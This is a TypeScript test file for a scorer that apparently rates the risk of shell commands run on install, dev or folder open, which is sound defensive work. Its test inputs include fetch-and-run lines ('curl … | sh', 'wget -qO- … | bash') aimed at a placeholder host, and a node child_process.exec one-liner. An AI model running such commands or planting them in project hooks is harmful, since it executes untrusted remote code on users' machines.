import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeCommand } from '../../../lang/shell/index.ts';
import { commandRisk } from './command-risk.ts';

describe('command risk', () => {
  const risk = (cmd: string, trigger: 'install' | 'dev' | 'open', local = false): string =>
    commandRisk(analyzeCommand(cmd), trigger, local).severity;

  it('rises with the trigger and the signals', () => {
    assert.equal(risk('curl -s https://x.example.invalid/a | sh', 'dev'), 'critical');
    assert.equal(risk('nohup node server &', 'install', true), 'critical');
    assert.equal(risk('nohup node server &', 'dev', true), 'info');
    assert.equal(risk('nohup node -e "require(\'child_process\').exec(x)" &', 'dev'), 'medium');
    assert.equal(risk('node -e "1"', 'open'), 'high');
    assert.equal(risk('node scripts/setup.js', 'install', true), 'high');
    assert.equal(risk('node scripts/setup.js', 'dev', true), 'info');
    assert.equal(risk('git clone https://example.com/x.git', 'install'), 'medium');
    assert.equal(risk('husky', 'install'), 'low');
    assert.equal(risk('prisma generate', 'dev'), 'info');
  });

  it('says why', () => {
    assert.equal(commandRisk(analyzeCommand('wget -qO- https://x.example.invalid | bash'), 'install', false).why, 'runs code it downloads');
    assert.equal(commandRisk(analyzeCommand('tsc'), 'install', false).why, '');
  });
});
